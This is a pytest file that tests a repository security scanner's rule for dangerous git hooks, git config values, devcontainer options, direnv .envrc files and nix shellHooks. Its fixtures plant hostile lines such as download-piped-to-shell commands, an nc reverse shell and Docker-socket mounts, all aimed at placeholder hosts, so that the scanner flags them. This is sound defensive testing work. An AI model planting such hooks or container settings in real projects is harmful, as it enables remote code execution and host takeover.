import os

from ztsa.model import Status


def test_pass(machine):
    machine.ws(".git/config", '[core]\n\tbare = false\n\tfsmonitor = false\n'
               '[remote "origin"]\n\turl = https://example.invalid/r.git\n')
    machine.ws(".git/hooks/pre-commit.sample", "#!/bin/sh\n")
    os.chmod(machine.workspace / ".git/hooks/pre-commit.sample", 0o755)
    machine.ws(".devcontainer/devcontainer.json", '{"image": "debian", // c\n}')
    assert machine.run("AGT009").status is Status.PASS


def test_fail(machine):
    # core.hooksPath points git at .husky/ (as husky does): so .husky/ runs
    machine.ws(".git/config", "[core]\n\thooksPath = .husky/_\n\tfsmonitor = ./x.sh\n"
               '[includeIf "gitdir:~/"]\n\tpath = ../evil.cfg\n')
    machine.ws(".git/hooks/post-checkout", "#!/bin/sh\ncurl x | sh\n")
    os.chmod(machine.workspace / ".git/hooks/post-checkout", 0o755)
    machine.ws(".devcontainer/devcontainer.json", '{"initializeCommand": "./boot.sh"}')
    machine.ws(".envrc", "use nix\n")
    # the dev shell `use nix` enters runs its shellHook: here a download piped into sh
    machine.ws("shell.nix", "{ pkgs ? import <nixpkgs> {} }:\npkgs.mkShell {\n"
               "  shellHook = ''\n    curl -fsSL https://x.invalid/h | sh\n  '';\n}\n")
    machine.ws(".husky/pre-commit", "npx lint-staged\n")
    out = machine.run("AGT009")
    assert out.status is Status.FAIL and not out.advisory
    assert [(e.path, e.line) for e in out.evidence] == [
        (".devcontainer/devcontainer.json", 1), ("shell.nix", 3), (".git/config", 2),
        (".git/config", 3), (".git/config", 5), (".git/hooks/post-checkout", None),
        (".envrc", None),
        (".husky/pre-commit", None)]  # advice: .envrc itself, a husky hook running lint-staged


def test_unknown_bad_devcontainer(machine):
    machine.ws(".devcontainer/devcontainer.json", '{"initializeCommand": ')
    assert machine.run("AGT009").status is Status.UNKNOWN


def _git(*args, cwd):
    import subprocess

    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e.invalid",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@e.invalid",
           "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "protocol.file.allow",
           "GIT_CONFIG_VALUE_0": "always"}
    subprocess.run(["git", *map(str, args)], cwd=cwd, env=env, check=True,
                   capture_output=True)


def test_pass_with_a_submodule_and_a_linked_worktree_made_by_git(machine, tmp_path):
    up = tmp_path / "up"
    up.mkdir()
    _git("init", "-q", ".", cwd=up)
    _git("commit", "-q", "--allow-empty", "-m", "a", cwd=up)
    ws = machine.workspace
    _git("init", "-q", ".", cwd=ws)
    _git("commit", "-q", "--allow-empty", "-m", "a", cwd=ws)
    _git("submodule", "add", "-q", str(up), "sub", cwd=ws)
    _git("worktree", "add", "-q", "wt", cwd=ws)
    assert machine.run("AGT009").status is Status.PASS


def test_fail_in_nested_repositories_submodules_and_redirects(machine, tmp_path):
    machine.ws("vendor/lib/.git/HEAD", "ref: refs/heads/main\n")
    machine.ws("vendor/lib/.git/config", "[core]\n\tpager = less; curl x | sh\n")
    hook = machine.ws(".git/modules/sub/hooks/post-checkout", "#!/bin/sh\n")
    os.chmod(hook, 0o755)
    machine.ws(".git/modules/sub/HEAD", "ref: refs/heads/main\n")
    machine.ws(".git/modules/sub/objects/.keep")
    machine.ws(".git/HEAD", "ref: refs/heads/main\n")
    machine.ws(".git/worktrees/w/HEAD", "ref: refs/heads/main\n")
    machine.ws(".git/worktrees/w/commondir", "../../../evil\n")
    machine.ws("sub/.git", "gitdir: ../.git/modules/sub\n")
    machine.ws("src/.git", "gitdir: ../evil\n")
    machine.ws("out/.git", f"gitdir: {tmp_path}\n")
    machine.ws("evil/HEAD", "ref: refs/heads/main\n")
    machine.ws("evil/objects/.keep")
    machine.ws(".ztsa-quarantine/r1/manifest.json", '[{"path": "x"}]\n')
    out = machine.run("AGT009")
    assert out.status is Status.FAIL
    got = sorted((e.path, e.detail.split(" ")[0]) for e in out.evidence)
    assert got == [
        (".git/modules/sub/hooks/post-checkout", "git"),
        (".git/worktrees/w/commondir", "commondir"),
        (".ztsa-quarantine/r1/manifest.json", "ztsa"),  # advice, listed with the rest
        ("out/.git", ".git"), ("src/.git", ".git"),
        ("vendor/lib/.git/config", "core.pager")], got


def test_unknown_unreadable_nested_config(machine):
    machine.ws("lib/.git/HEAD", "ref: refs/heads/main\n")
    machine.ws("lib/.git/config", "[core\n")
    assert machine.run("AGT009").status is Status.UNKNOWN


def test_fail_on_a_value_continued_on_the_next_line(machine):
    machine.ws(".git/HEAD", "ref: refs/heads/main\n")
    machine.ws(".git/config", '[core]\n\tfsmonitor = "tou\\\nch x"\n')
    out = machine.run("AGT009")
    assert out.status is Status.FAIL
    assert "'touch x'" in out.evidence[0].detail


def test_unknown_when_a_hooks_directory_cannot_be_listed(machine, monkeypatch):
    machine.ws(".git/HEAD", "ref: refs/heads/main\n")
    machine.ws(".git/hooks/pre-commit.sample", "#!/bin/sh\n")
    real = os.listdir

    def refuse(path="."):
        if str(path).endswith("hooks"):
            raise PermissionError(13, "Permission denied")
        return real(path)

    monkeypatch.setattr(os, "listdir", refuse)
    assert machine.run("AGT009").status is Status.UNKNOWN


def test_fail_install_hooks_that_install_git_hooks(machine):
    """vue and vite: `"postinstall": "simple-git-hooks"`; typescript-sdk: `"prepare":
    "npx --no-install lefthook install"`."""
    import json

    machine.ws("package.json", json.dumps({"name": "vue", "scripts": {
        "postinstall": "simple-git-hooks", "prepare": "npx --no-install lefthook install",
        "test": "vitest"}}, indent=2))
    out = machine.run("AGT009")
    assert out.status is Status.FAIL
    assert sorted(e.detail.split(":")[0] for e in out.evidence) == [
        "postinstall runs simple-git-hooks", "prepare runs lefthook install"]


def test_fail_devcontainers_that_can_take_the_host(machine):
    """Every place a devcontainer config lives; privileged, host PID, SYS_ADMIN, an
    unconfined profile and the Docker socket, in the config and in its compose file."""
    import json

    machine.ws(".devcontainer.json", json.dumps({"initializeCommand": "./init.sh"}))
    machine.ws(".devcontainer/gpu/devcontainer.json", json.dumps({
        "image": "x", "privileged": True,
        "runArgs": ["--pid=host", "--cap-add=SYS_ADMIN"],
        "mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"]},
        indent=2))
    machine.ws(".devcontainer/devcontainer.json", json.dumps({
        "dockerComposeFile": "compose.yml", "service": "app",
        "securityOpt": ["systempaths=unconfined"]}, indent=2))
    machine.ws(".devcontainer/compose.yml", "services:\n  app:\n    image: x\n"
               "    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n"
               "  db:\n    image: pg\n    privileged: true\n")
    out = machine.run("AGT009")
    assert out.status is Status.FAIL
    got = sorted((e.path, e.detail) for e in out.evidence)
    assert got == sorted([
        (".devcontainer.json", "initializeCommand runs on the host"),
        (".devcontainer/gpu/devcontainer.json",
         "its container can take the host: privileged is true"),
        (".devcontainer/gpu/devcontainer.json",
         "its container can take the host: runArgs hold --pid=host"),
        (".devcontainer/gpu/devcontainer.json",
         "its container can take the host: runArgs add the capability SYS_ADMIN"),
        (".devcontainer/gpu/devcontainer.json",
         "its container can take the host: the Docker socket is mounted into it"),
        (".devcontainer/devcontainer.json",
         "its container can take the host: securityOpt holds systempaths=unconfined"),
        (".devcontainer/compose.yml", "service 'app' can take the host: the Docker socket is "
         "mounted into it"),
        (".devcontainer/compose.yml", "service 'db' can take the host: privileged is true")])


def test_pass_an_ordinary_devcontainer(machine):
    import json

    machine.ws(".devcontainer/devcontainer.json", json.dumps({
        "image": "mcr.microsoft.com/devcontainers/python:3",
        "postCreateCommand": "pip install -e .", "runArgs": ["--cap-add=SYS_PTRACE"],
        "mounts": ["source=cache,target=/cache,type=volume"]}))
    assert machine.run("AGT009").status is Status.PASS


def test_a_debugger_template_without_the_seccomp_filter_is_advice(machine):
    """cli/cli's devcontainer (the Go template): SYS_PTRACE and `--security-opt
    seccomp=unconfined`, for delve. Without Docker's system-call filter the container
    reaches more of the kernel, but keeps its namespaces, capabilities and AppArmor
    profile: advice, in runArgs, `securityOpt` and a Compose service alike. The same
    template with a host capability, the AppArmor profile off or /proc unmasked still
    fails."""
    import json

    machine.ws(".devcontainer/devcontainer.json", json.dumps({
        "image": "mcr.microsoft.com/devcontainers/go:1.22",
        "runArgs": ["--cap-add=SYS_PTRACE", "--security-opt", "seccomp=unconfined"]},
        indent=2))
    machine.ws(".devcontainer/cpp/devcontainer.json", json.dumps({
        "dockerComposeFile": "compose.yml", "service": "dev",
        "capAdd": ["SYS_PTRACE"], "securityOpt": ["seccomp:unconfined"]}, indent=2))
    machine.ws(".devcontainer/cpp/compose.yml", "services:\n  dev:\n    image: x\n"
               "    security_opt:\n      - seccomp=unconfined\n")
    out = machine.run("AGT009")
    assert out.status is Status.FAIL and out.advisory, out
    assert sorted(e.detail.split(": the container")[0] for e in out.evidence) == [
        "its container is less confined: runArgs hold --security-opt seccomp=unconfined",
        "its container is less confined: securityOpt holds seccomp:unconfined",
        "service 'dev' is less confined: security_opt holds seccomp=unconfined"]
    for extra, said in ((["--cap-add=SYS_ADMIN"], "runArgs add the capability SYS_ADMIN"),
                        (["--security-opt=apparmor=unconfined"],
                         "runArgs hold --security-opt apparmor=unconfined"),
                        (["--security-opt", "systempaths=unconfined"],
                         "runArgs hold --security-opt systempaths=unconfined"),
                        (["--privileged"], "runArgs hold --privileged")):
        machine.ws(".devcontainer/devcontainer.json", json.dumps({
            "image": "mcr.microsoft.com/devcontainers/go:1.22",
            "runArgs": ["--cap-add=SYS_PTRACE", "--security-opt", "seccomp=unconfined",
                        *extra]}, indent=2))
        out = machine.run("AGT009")
        assert out.status is Status.FAIL and not out.advisory, (extra, out)
        assert f"its container can take the host: {said}" in [
            e.detail for e in out.evidence], (extra, out.evidence)


def test_a_hook_manager_dependency_with_its_configuration_is_judged_by_its_hooks(machine):
    """lefthook and simple-git-hooks install the configured hooks from their own
    postinstall: a devDependency and its configuration are enough. Hooks that lint are
    listed as advice; the same hooks running a file that pipes a download into a shell,
    or an inline download tool, gate."""
    import json

    machine.ws("package.json", json.dumps({"name": "x", "devDependencies": {
        "lefthook": "^1.5.0", "simple-git-hooks": "^2", "lint-staged": "^15"},
        "simple-git-hooks": {"pre-commit": "npx lint-staged"}}, indent=2))
    machine.ws("lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      run: make lint\n")
    out = machine.run("AGT009")
    assert out.status is Status.FAIL and out.advisory, out
    assert sorted(e.detail for e in out.evidence) == [
        "lefthook runs 'lint' on pre-commit: 'make lint'",
        "simple-git-hooks runs on pre-commit: 'npx lint-staged'",
        "the lefthook dependency installs its configured git hooks on install, judged by "
        "what they run",
        "the simple-git-hooks dependency installs its configured git hooks on install, "
        "judged by what they run"]
    assert [e.line for e in out.evidence if e.path == "lefthook.yml"] == [3]
    machine.ws("lefthook.yml", "pre-commit:\n  commands:\n    lint:\n"
                               "      run: bash scripts/lint.sh\n")
    machine.ws("scripts/lint.sh", "#!/bin/bash\nwget -qO- https://x.invalid/l | bash\n")
    machine.ws("package.json", json.dumps({"name": "x", "devDependencies": {
        "lefthook": "^1.5.0", "simple-git-hooks": "^2"},
        "simple-git-hooks": {"pre-commit": "nc -e /bin/sh x.invalid 9"}}, indent=2))
    out = machine.run("AGT009")
    assert out.status is Status.FAIL and not out.advisory, out
    assert sorted((e.path, e.line) for e in out.evidence[:2]) == [
        ("package.json", 8), ("scripts/lint.sh", 2)]
    assert "lefthook runs 'lint' on pre-commit runs scripts/lint.sh, which pipes a " \
        "download into an interpreter" in out.evidence[1].detail + out.evidence[0].detail


def test_unknown_a_broken_devcontainer(machine):
    machine.ws(".devcontainer/x/devcontainer.json", '{"privileged": ')
    assert machine.run("AGT009").status is Status.UNKNOWN


def test_an_installed_pre_commit_hook_names_the_local_hooks_it_runs(machine):
    """pre-commit's installed hook is a generic shim: the code it runs on every commit
    is the repository's .pre-commit-config.yaml, whose `repo: local` entries are any
    command (python-sdk's `uv run --frozen ruff`, or a PR's `curl ... | sh`)."""
    machine.ws(".git/config", "[core]\n\tbare = false\n")
    machine.ws(".git/hooks/pre-commit", "#!/usr/bin/env bash\n"
               "# File generated by pre-commit: https://pre-commit.com\n"
               "exec python -mpre_commit hook-impl --hook-type=pre-commit\n")
    os.chmod(machine.workspace / ".git/hooks/pre-commit", 0o755)
    machine.ws(".pre-commit-config.yaml",
               "repos:\n  - repo: https://github.com/psf/black\n    rev: 24.1.0\n"
               "    hooks:\n      - id: black\n  - repo: local\n    hooks:\n"
               "      - id: fmt\n        name: fmt\n        entry: curl -s https://x.invalid | sh\n"
               "        language: system\n")
    out = machine.run("AGT009")
    assert out.status is Status.FAIL
    assert [(e.path, e.line) for e in out.evidence] == [
        (".git/hooks/pre-commit", None), (".pre-commit-config.yaml", 8)]
    assert "curl -s https://x.invalid | sh" in out.evidence[1].detail


def test_a_pre_commit_config_without_an_installed_hook_runs_nothing(machine):
    machine.ws(".git/config", "[core]\n\tbare = false\n")
    machine.ws(".pre-commit-config.yaml", "repos:\n  - repo: local\n    hooks:\n"
               "      - id: fmt\n        name: fmt\n        entry: make fmt\n"
               "        language: system\n")
    assert machine.run("AGT009").status is Status.PASS


def test_quarantine_alone_is_advice_and_its_files_are_not_judged(machine):
    """What ztsa exec moved aside (a venv's .pth, a nested repository's config, under
    flattened names) is inert: said, never blocking, so an ordinary venv or a test run
    that makes git repositories does not make every later run fail."""
    machine.ws(".ztsa-quarantine/r1/manifest.json", '[{"path": "x"}]\n')
    machine.ws(".ztsa-quarantine/r1/.venv%2Flib%2Fdistutils-precedence.pth", "import os\n")
    machine.ws(".ztsa-quarantine/r1/t%2F.git%2Fconfig", "[core]\n\tfsmonitor = x\n")
    out = machine.run("AGT009")
    assert out.status is Status.FAIL and out.advisory, out
    assert [e.path for e in out.evidence] == [".ztsa-quarantine/r1/manifest.json"]
    assert machine.run("SUP015").status is Status.PASS


def test_envrc_is_judged_by_what_it_runs(machine):
    """crush, helix, gitbutler, bat: `.envrc` that says `use flake` (or `use flake ||
    use nix; eval "$shellHook"`) of a dev shell whose shellHook only sets variables is
    advice. The same file gates when the dev shell's shellHook writes a shell start-up
    file, when it sources a file that runs a fetched string, when it uses a flake from
    elsewhere, or when it puts a workspace directory first on PATH; a sourced file that
    cannot be judged is unknown."""
    machine.ws(".envrc", "watch_file flake.lock\nuse flake || use nix\neval \"$shellHook\"\n"
               "dotenv_if_exists\n")
    flake = ("{\n  outputs = { self, nixpkgs }: {\n    devShells.x86_64-linux.default =\n"
             "      nixpkgs.legacyPackages.x86_64-linux.mkShell {\n        shellHook = ''\n"
             "          export RUST_BACKTRACE=1\n          export TMP_OUT=\"''${TMPDIR:-/tmp}/o\"\n"
             "        '';\n      };\n  };\n}\n")
    machine.ws("flake.nix", flake)
    out = machine.run("AGT009")
    assert out.status is Status.FAIL and out.advisory, out
    assert [e.path for e in out.evidence] == [".envrc", "flake.nix"]
    machine.ws("flake.nix", flake.replace("export RUST_BACKTRACE=1",
                                          "echo 'source ~/.cache/x' >> ~/.zshrc"))
    out = machine.run("AGT009")
    assert out.status is Status.FAIL and not out.advisory
    assert (out.evidence[0].path, out.evidence[0].line) == ("flake.nix", 5)
    assert "~/.zshrc" in out.evidence[0].detail
    machine.ws("flake.nix", flake)
    for envrc, needle in (
            ("use flake github:someone/devshell\n", "from outside the repository"),
            ("PATH_add bin\n", "first on PATH"),
            ("source_env .envrc.local\n", "runs a fetched string")):
        machine.ws(".envrc.local", 'eval "$(curl -fsSL https://x.invalid/env)"\n')
        machine.ws(".envrc", envrc)
        out = machine.run("AGT009")
        assert out.status is Status.FAIL and not out.advisory, (envrc, out)
        assert any(needle in e.detail for e in out.evidence), (envrc, out)
    machine.ws(".envrc.local", b"\xff\xfe\x00 not text")
    assert machine.run("AGT009").status is Status.UNKNOWN


def test_nested_envrc_is_judged_where_direnv_enters(machine):
    """direnv runs the `.envrc` of whatever directory a shell enters: one under
    packages/x/ (or in test data: direnv obeys it there too) that sources a sibling which
    runs a fetched string is a finding, its names relative to its own directory; a
    benign nested one (`dotenv_if_exists`, `watch_file`) is advice. The old rule read only
    the top's `.envrc`; the catalogue's direnv-envrc names `**/.envrc`."""
    machine.ws("packages/x/.envrc", "watch_file package.json\ndotenv_if_exists\n")
    out = machine.run("AGT009")
    assert out.status is Status.FAIL and out.advisory, out
    assert [e.path for e in out.evidence] == ["packages/x/.envrc"]
    for rel in ("packages/x/.envrc", "test/fixtures/app/.envrc"):
        d = rel.rsplit("/", 1)[0]
        machine.ws(f"{d}/env.sh", 'eval "$(curl -fsSL https://x.invalid/env)"\n')
        machine.ws(rel, "source_env env.sh\nPATH_add bin\n")
        out = machine.run("AGT009")
        assert out.status is Status.FAIL and not out.advisory, (rel, out)
        details = {(e.path, e.detail.split(",")[0][:40]) for e in out.evidence}
        assert (f"{d}/env.sh", f"{rel} (run when direnv enters the folder)"[:40]) in \
            details, out.evidence
        assert any(e.path == rel and "first on PATH" in e.detail for e in out.evidence)
        machine.ws(rel, "dotenv_if_exists\n")
    machine.ws("node_modules/pkg/.envrc", 'eval "$(curl -fsSL https://x.invalid/e)"\n')
    out = machine.run("AGT009")
    assert not any("node_modules" in (e.path or "") for e in out.evidence), out


def test_fail_host_capabilities_and_options_the_old_lists_missed(machine):
    """CAP_DAC_READ_SEARCH lets a container open any host file by handle (the Shocker
    escape), CAP_SYS_RAWIO reaches devices and ports; `--security-opt
    apparmor=unconfined` in runArgs drops the profile as `securityOpt` does, and a
    compose service may add them in lower case. The old rule's HOST_CAPS and its
    `securityOpt`-only check passed all three; the catalogue's devcontainer entries judge
    them with one vocabulary."""
    import json

    machine.ws(".devcontainer/devcontainer.json", json.dumps({
        "dockerComposeFile": ["compose.yml"], "service": "app",
        "capAdd": ["DAC_READ_SEARCH"], "runArgs": ["--security-opt", "apparmor=unconfined"]},
        indent=2))
    machine.ws(".devcontainer/compose.yml", "services:\n  app:\n    image: x\n"
               "    cap_add:\n      - sys_rawio\n")
    out = machine.run("AGT009")
    assert out.status is Status.FAIL and not out.advisory, out
    assert sorted((e.path, e.detail) for e in out.evidence) == [
        (".devcontainer/compose.yml", "service 'app' can take the host: cap_add holds "
         "sys_rawio"),
        (".devcontainer/devcontainer.json", "its container can take the host: capAdd holds "
         "DAC_READ_SEARCH"),
        (".devcontainer/devcontainer.json", "its container can take the host: runArgs hold "
         "--security-opt apparmor=unconfined")], out.evidence
